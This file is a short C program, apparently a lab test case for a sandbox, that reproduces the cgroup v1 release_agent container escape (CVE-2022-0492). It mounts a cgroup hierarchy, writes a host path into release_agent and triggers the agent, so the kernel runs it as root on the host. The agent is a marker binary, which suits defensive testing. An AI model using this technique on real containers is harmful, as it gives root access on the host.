/* cgroup v1 release_agent (CVE-2022-0492's shape): a hierarchy of our own, whose agent the kernel runs as root of the host. */
#include "common.h"
#include <sys/mount.h>

int main(void)
{
	char options[128], agent[4200];
	lab_place_helper();
	mkdir("/lab_cg", 0755);
	snprintf(options, sizeof(options), "none,name=%s", lab_env("LAB_NAME"));
	if (mount("cgroup", "/lab_cg", "cgroup", 0, options))
		lab_die("mount a cgroup v1 hierarchy");
	mkdir("/lab_cg/child", 0755);
	lab_write("/lab_cg/child/notify_on_release", "1");
	snprintf(agent, sizeof(agent), "%s/umh_mark", lab_host_path_of_root());
	int fd = (int)lab_violate4("open", SYS_openat, AT_FDCWD, "/lab_cg/release_agent", O_WRONLY, 0);
	if (write(fd, agent, strlen(agent)) < 0)
		lab_die("write release_agent");
	pid_t child = fork();
	if (child == 0) {
		lab_write("/lab_cg/child/cgroup.procs", "0");
		_exit(0);
	}
	waitpid(child, NULL, 0);
	return 0;
}
